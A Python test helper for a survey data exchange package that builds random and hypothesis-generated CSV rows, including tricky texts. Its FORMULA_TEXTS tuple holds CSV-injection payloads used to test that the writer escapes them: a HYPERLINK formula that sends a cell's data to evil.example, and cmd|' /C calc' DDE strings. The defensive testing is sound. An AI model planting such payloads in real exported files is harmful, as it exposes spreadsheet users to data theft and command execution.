"""Valid exchange rows for an instrument: random ones for examples, a strategy for hypothesis.

Values are drawn from what the instrument allows, so every row this module makes must
import; the canonical form (as `sharedground.exchange.csvfile` writes it) is what an
export must give back byte for byte.
"""

from __future__ import annotations

import datetime as dt
import random
from collections.abc import Callable
from pathlib import Path

import polars as pl
from hypothesis import strategies as st
from sqlalchemy import inspect, text

from sharedground.exchange.columns import MODES, Column, all_column_names, item_columns
from sharedground.exchange.csvfile import write_csv
from sharedground.instrument import NONE_CHOSEN, Instrument
from sharedground.store import Store

Row = dict[str, str | None]
#: The `write_file` fixture: content (str as UTF-8, or bytes) and an optional file name.
WriteFile = Callable[..., Path]
#: The `rows_file` fixture: rows (and an instrument, default dmr-2015) to a canonical file.
RowsFile = Callable[..., Path]

#: Text that has broken CSV and JSON handling elsewhere: quotes, separators, line breaks,
#: a JSON fragment that looks like a blank member, non-Latin scripts and emoji.
TRICKY_TEXTS = (
    'She said "no", then left',
    "one, two; three",
    "first line\nsecond line",
    '{"x":null} and ,"x":null inside a comment',
    "ends with a backslash \\",
    "Ünïcödé – “curly quotes” and ‘apostrophes’",
    "漢字とかな",
    "emoji 🏥👩‍⚕️",
    "  leading and trailing spaces  ",
    "tab\there",
    '"',
    "null",
    "none",
)

#: Spreadsheet formulas (OWASP "CSV injection"), which writers prefix with a quote, and text
#: that already begins with one (kept apart from TRICKY_TEXTS so seeded rows stay the same).
FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?d="&A2, "click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "-5",
    "\tindented",
    "'quoted already",
    "''",
)


def frame_of(rows: list[Row], instrument: Instrument) -> pl.DataFrame:
    """Rows as an all-string frame with every exchange column."""
    names = all_column_names(instrument)
    return pl.DataFrame(
        [[row.get(n) for n in names] for row in rows],
        schema={n: pl.String for n in names},
        orient="row",
    )


def write_rows(rows: list[Row], instrument: Instrument, path: Path) -> Path:
    """Write rows in the canonical exchange form."""
    write_csv(frame_of(rows, instrument), instrument, path)
    return path


def random_value(column: Column, rng: random.Random) -> str:
    """A valid, non-blank cell for a column."""
    if column.kind == "multi":
        if rng.random() < 0.1:
            return NONE_CHOSEN
        limit = column.max_choices or len(column.options)
        chosen = rng.sample(column.options, rng.randint(1, limit))
        # The canonical form lists options in questionnaire order.
        return ";".join(o for o in column.options if o in chosen)
    if column.kind == "text":
        assert column.max_length is not None
        return rng.choice(TRICKY_TEXTS)[: column.max_length]
    return rng.choice(column.allowed)


def random_rows(
    instrument: Instrument, n: int, seed: int = 0, blank: float = 0.15, prefix: str = "R"
) -> list[Row]:
    """`n` valid respondents with about `blank` of their answers skipped."""
    rng = random.Random(seed)
    roles = instrument.role_ids()
    columns = item_columns(instrument)
    rows = []
    for i in range(n):
        row: Row = {
            "respondent_id": f"{prefix}{i + 1:05d}",
            "role": rng.choice(roles),
            "trust": rng.choice(["RXA", "RXB", "R1H", None]),
            "mode": rng.choice(MODES),
            "submitted": (dt.date(2015, 5, 1) + dt.timedelta(days=rng.randint(0, 180))).isoformat(),
        }
        for column in columns:
            row[column.name] = None if rng.random() < blank else random_value(column, rng)
        rows.append(row)
    return rows


def table_counts(store: Store) -> dict[str, int]:
    """Rows in every table of the database (so nothing written anywhere goes unnoticed)."""
    names = sorted(inspect(store.engine).get_table_names())
    with store.engine.connect() as connection:
        return {
            name: connection.execute(text(f'SELECT count(*) FROM "{name}"')).scalar_one()
            for name in names
        }


# -- hypothesis ------------------------------------------------------------------------------

# Free text as a respondent might type it: any printable character, spaces, tabs and line
# feeds, but no other control characters (NUL cannot be stored in PostgreSQL text) and no
# carriage returns, which the reader folds into "\n" (the canonical line break).
_TEXT_ALPHABET = st.characters(
    blacklist_categories=("Cs", "Cc"), blacklist_characters="\r"
) | st.sampled_from(["\n", "\t", '"', ",", ";", "\\", ":", "{", "}"])


def _cell(column: Column) -> st.SearchStrategy[str | None]:
    if column.kind == "multi":
        limit = column.max_choices or len(column.options)
        subsets = st.lists(
            st.sampled_from(column.options), min_size=1, max_size=limit, unique=True
        ).map(lambda chosen: ";".join(o for o in column.options if o in chosen))
        value: st.SearchStrategy[str] = subsets | st.just(NONE_CHOSEN)
    elif column.kind == "text":
        assert column.max_length is not None
        value = st.text(_TEXT_ALPHABET, min_size=1, max_size=min(column.max_length, 60)) | (
            st.sampled_from(TRICKY_TEXTS + FORMULA_TEXTS)
        )
    else:
        value = st.sampled_from(column.allowed)
    return st.none() | value


# Respondent ids may hold anything printable except surrounding spaces, which the reader
# strips as it does from every non-text cell.
_IDS = st.text(
    st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1, max_size=20
) | st.sampled_from(["=1+2", "-3", "-2+3", "@A1", "+1", "'R1", "'"])


@st.composite
def responses(draw: st.DrawFn, instrument: Instrument, max_rows: int = 6) -> list[Row]:
    """A list of valid respondents with distinct ids, any subset of answers blank."""
    ids = draw(st.lists(_IDS, min_size=1, max_size=max_rows, unique=True))
    columns = item_columns(instrument)
    rows = []
    for respondent in ids:
        row: Row = {
            "respondent_id": respondent,
            "role": draw(st.sampled_from(instrument.role_ids())),
            "trust": draw(st.none() | st.from_regex(r"\A[A-Z0-9][A-Za-z0-9_.-]{0,7}\Z")),
            "mode": draw(st.sampled_from(MODES)),
            "submitted": draw(
                st.none()
                | st.dates(dt.date(2000, 1, 1), dt.date(2024, 12, 31)).map(dt.date.isoformat)
            ),
        }
        for column in columns:
            row[column.name] = draw(_cell(column))
        rows.append(row)
    return rows
